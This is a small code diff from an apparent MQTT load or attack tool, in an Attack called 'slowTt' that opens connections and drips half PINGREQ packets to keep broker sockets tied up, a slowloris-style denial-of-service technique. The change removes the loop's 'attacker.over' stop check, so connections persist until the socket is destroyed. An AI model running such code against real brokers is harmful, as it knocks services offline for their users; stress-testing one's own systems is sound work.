@@ -22,7 +22,7 @@ export const slowTt: Attack = {
           continue
         }
         await attacker.send(socket, connectPacket({ clientId: chance.text(16), keepalive, clean: true }))
-        while (!socket.destroyed && !attacker.over) {
+        while (!socket.destroyed) {
           await attacker.pause(keepalive * (drips ? 500 : 1_300))
           // Half a PINGREQ now, the other half next time.
           const bytes = drips
